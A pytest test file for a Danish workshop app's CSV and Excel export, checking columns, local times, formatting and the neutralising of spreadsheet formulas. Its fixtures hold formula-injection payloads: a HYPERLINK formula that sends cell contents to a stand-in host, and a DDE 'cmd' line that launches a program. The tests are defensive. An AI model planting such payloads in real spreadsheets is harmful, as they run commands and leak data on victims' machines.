"""The room's export (:mod:`lises.room.export`): one row per participant and turn, item or case
with Danish columns and values, a CSV that Danish Excel opens as columns, a formatted workbook,
local time, and no cell that a spreadsheet would run as a formula."""

from __future__ import annotations

import io
import random
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from typing import Any

import openpyxl
import pandas as pd
import pytest

from lises.excerpts.responses import CODE_LABELS
from lises.excerpts.scoring import key_codes
from lises.potentials.html import potential_name
from lises.room import export
from test_room_screens import CASES, EXCERPTS, SETS, walk

FORMULA = '=HYPERLINK("https://eksempel.invalid/?q="&A1;"Klik her")'
SUMMER = datetime(2026, 7, 1, 10, 0, 0, tzinfo=UTC)  # 12:00 in Copenhagen (CEST)
WINTER = datetime(2026, 1, 15, 10, 0, 0, tzinfo=UTC)  # 11:00 in Copenhagen (CET)


@dataclass(frozen=True)
class ExportAnswer:
    """A stand-in for lises.workshop.store_room.ExportAnswer (the same attribute names)."""

    nickname: str
    exercise: str
    item: str
    step: str
    value: Any
    submitted_at: datetime
    hidden: bool = False


def answers_of(nickname: str, kind: str, item: str, seed: int, start=SUMMER, **kwargs):
    steps, _ = walk(kind, item, random.Random(seed), **kwargs)
    return [
        ExportAnswer(nickname, kind, item, step, value, start + timedelta(seconds=10 * n))
        for n, (step, value) in enumerate(steps)
    ]


def with_text(rows: list[ExportAnswer], text: str, hidden: bool = False) -> list[ExportAnswer]:
    """The rows with every free text replaced by ``text``."""
    free = ("reply:", "begrundelse")
    return [
        ExportAnswer(**{**r.__dict__, "value": text, "hidden": hidden})
        if r.step.startswith(free)
        else r
        for r in rows
    ]


@pytest.fixture(scope="module")
def rows() -> list[ExportAnswer]:
    found = []
    for n, nickname in enumerate(["Anna", "Bo", "Cille"]):
        found += answers_of(nickname, "gribning", "maanen", n)
        found += answers_of(nickname, "dilemma", "praktikken", n)
        found += answers_of(nickname, "potentialer", "fem-potentialer", n)
    return with_text(found, FORMULA)


@pytest.fixture(scope="module")
def table(rows) -> pd.DataFrame:
    return export.export_table(rows)


def test_one_row_per_participant_and_turn_item_or_case(table, rows):
    excerpt = EXCERPTS["maanen"]
    for nickname in ("Anna", "Bo", "Cille"):
        mine = table[table["Kaldenavn"] == nickname]
        grib = mine[mine["Øvelse"] == "Gribning"]
        answered = {
            int(r.step.split(":")[1])
            for r in rows
            if r.nickname == nickname and r.exercise == "gribning" and not r.step.startswith("next")
        }
        assert list(grib["Tur/emne"]) == sorted(answered)
        assert set(excerpt.citizen_turns) <= answered
        pot = mine[mine["Øvelse"] == "Potentialer"]
        assert list(pot["Tur/emne"]) == list(range(1, len(SETS["fem-potentialer"].items) + 1))
        assert len(mine[mine["Øvelse"] == "Dilemmaer"]) == 1
    assert list(table.columns) == export.COLUMNS


def test_values_are_danish_words_not_codes(table):
    back = pd.read_csv(
        io.BytesIO(export.export_csv(table)), sep=";", encoding="utf-8-sig", dtype=str
    )
    cells = {c for column in back.columns for c in back[column].dropna()}
    assert not cells & {"True", "False", "None", "nan", "NaN", "<NA>", "NaT"}
    codes = ("mark:", "classify:", "reply:", "sort:", "next:", "weights", "begrundelse")
    assert not [c for c in cells if c.startswith(codes)]
    assert set(table["Markeret"].dropna()) <= {"ja", "nej"}
    grib = table[table["Øvelse"] == "Gribning"]
    assert set(grib["Vurdering/valg"].dropna()) <= set(CODE_LABELS.values())
    keys = key_codes(EXCERPTS["maanen"])
    for turn, code in zip(grib["Tur/emne"], grib["Nøglens kode"], strict=True):
        if turn in keys:
            assert code == CODE_LABELS[keys[turn]]
    assert set(grib["Uddrag/sag/sæt"]) == {EXCERPTS["maanen"].title}
    pot = table[table["Øvelse"] == "Potentialer"]
    assert set(pot["Vurdering/valg"]) <= {potential_name(p) for p in range(1, 6)}
    dil = table[table["Øvelse"] == "Dilemmaer"]
    assert set(dil["Vurdering/valg"]) <= {a.label for a in CASES["praktikken"].actions}
    assert dil["Vægt: Effektivitet"].notna().all()


def test_agreement_with_the_key_is_said_in_words():
    excerpt = EXCERPTS["praktikken"]
    key = excerpt.key_by_turn
    rows = []
    for step, value in walk("gribning", excerpt.id, random.Random(1))[0]:
        kind, _, turn = step.partition(":")
        if kind == "mark":
            value = int(turn) in key
        elif kind == "classify":
            value = key[int(turn)].response.value
        rows.append(ExportAnswer("Dina", "gribning", excerpt.id, step, value, SUMMER))
    table = export.export_table(rows)
    assert set(table["Enig med nøglen"].dropna()) == {"ja"}


def test_times_are_local_copenhagen_without_a_zone():
    rows = answers_of("Anna", "dilemma", "praktikken", 1, start=SUMMER)
    rows += answers_of("Bo", "dilemma", "praktikken", 2, start=WINTER)
    table = export.export_table(rows)
    last = {r.nickname: r.submitted_at for r in rows}
    times = dict(zip(table["Kaldenavn"], table["Tidspunkt"], strict=True))
    hours = {"Anna": 2, "Bo": 1}
    for nickname, moment in last.items():
        expected = (moment + timedelta(hours=hours[nickname])).replace(tzinfo=None)
        assert times[nickname].to_pydatetime() == expected
    assert table["Tidspunkt"].dt.tz is None
    csv_text = export.export_csv(table).decode("utf-8-sig")
    assert "2026-07-01 12:00:" in csv_text and "2026-01-15 11:00:" in csv_text
    assert "+0" not in csv_text and "UTC" not in csv_text
    naive = [
        ExportAnswer(**{**r.__dict__, "submitted_at": SUMMER.replace(tzinfo=None)}) for r in rows
    ]
    assert export.export_table(naive)["Tidspunkt"].iloc[0].hour == 12  # naive is taken as UTC


def test_csv_is_danish_excel_ready(table):
    data = export.export_csv(table)
    assert data.startswith(b"\xef\xbb\xbf")
    text = data.decode("utf-8-sig")
    assert text.splitlines()[0].split(";")[:3] == ["Kaldenavn", "Øvelse", "Uddrag/sag/sæt"]
    assert "\r\n" in text
    back = pd.read_csv(io.BytesIO(data), sep=";", encoding="utf-8-sig", dtype=str)
    assert list(back.columns) == export.COLUMNS and len(back) == len(table)
    numbers = pd.DataFrame({"Navn": ["a"], "Gennemsnit": [2.5]})
    assert "a;2,5" in export.export_csv(numbers).decode("utf-8-sig")


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_formula_is_neutralised_in_the_csv(start):
    text = f"{start}1+2+cmd|' /C calc'!A0"
    table = export.export_table(with_text(answers_of("-Eva", "dilemma", "refusion", 4), text))
    back = pd.read_csv(
        io.BytesIO(export.export_csv(table)), sep=";", encoding="utf-8-sig", dtype=str
    )
    assert back["Svar (fri tekst)"].iloc[0] == "'" + text
    assert back["Kaldenavn"].iloc[0] == "'-Eva"


def test_a_hyperlink_formula_stays_text_in_the_workbook(table):
    book = openpyxl.load_workbook(io.BytesIO(export.export_xlsx(table)))
    sheet = book.active
    header = [c.value for c in sheet[1]]
    assert header == export.COLUMNS
    column = header.index("Svar (fri tekst)") + 1
    cells = [sheet.cell(row=r, column=column) for r in range(2, sheet.max_row + 1)]
    texts = [c for c in cells if c.value is not None]
    assert texts and all(c.value == "'" + FORMULA for c in texts)
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)


def test_the_workbook_is_formatted(table):
    book = openpyxl.load_workbook(io.BytesIO(export.export_xlsx(table)))
    sheet = book.active
    assert all(c.font.bold for c in sheet[1])
    assert sheet.freeze_panes == "A2"
    header = [c.value for c in sheet[1]]
    for number, name in enumerate(header, start=1):
        width = sheet.column_dimensions[openpyxl.utils.get_column_letter(number)].width
        assert len(name) <= width <= export.MAX_WIDTH + 2
    when = sheet.cell(row=2, column=header.index("Tidspunkt") + 1)
    assert isinstance(when.value, datetime) and when.is_date
    assert "yyyy" in when.number_format and "hh:mm" in when.number_format
    turn = sheet.cell(row=2, column=header.index("Vægt: Respekt") + 1)
    assert isinstance(turn.value, int)


def test_control_characters_do_not_break_the_workbook():
    text = "Linje et\nlinje to\x01\x1f slut"
    table = export.export_table(with_text(answers_of("Eva", "dilemma", "refusion", 4), text))
    sheet = openpyxl.load_workbook(io.BytesIO(export.export_xlsx(table))).active
    column = [c.value for c in sheet[1]].index("Svar (fri tekst)") + 1
    assert sheet.cell(row=2, column=column).value == "Linje et\nlinje to slut"


def test_hidden_texts_are_exported_and_marked():
    rows = with_text(answers_of("Eva", "dilemma", "refusion", 4), "Skjult tekst", hidden=True)
    table = export.export_table(rows)
    assert table["Skjult på projektoren"].iloc[0] == "ja"
    assert table["Svar (fri tekst)"].iloc[0] == "Skjult tekst"


def test_unknown_items_forged_steps_and_other_exercises():
    rows = [
        ExportAnswer("Eva", "gribning", "slettet-uddrag", "mark:2", True, SUMMER),
        ExportAnswer("Eva", "gribning", "slettet-uddrag", "mark:02", True, SUMMER),
        ExportAnswer("Eva", "gribning", "maanen", "mark:2", "ja", SUMMER),
        ExportAnswer("Eva", "facilitator", "x", "mark:2", True, SUMMER),
        ExportAnswer("Eva", "potentialer", "fem-potentialer", "sort:findes-ikke", 9, SUMMER),
    ]
    table = export.export_table(rows)
    assert len(table) == 2
    assert set(table["Uddrag/sag/sæt"]) == {"slettet-uddrag", SETS["fem-potentialer"].title}
    export.export_xlsx(table)
    export.export_csv(table)


def test_an_empty_room_exports_a_header():
    table = export.export_table([])
    assert list(table.columns) == export.COLUMNS and table.empty
    assert export.export_csv(table).decode("utf-8-sig").strip() == ";".join(export.COLUMNS)
    sheet = openpyxl.load_workbook(io.BytesIO(export.export_xlsx(table))).active
    assert [c.value for c in sheet[1]] == export.COLUMNS and sheet.max_row == 1
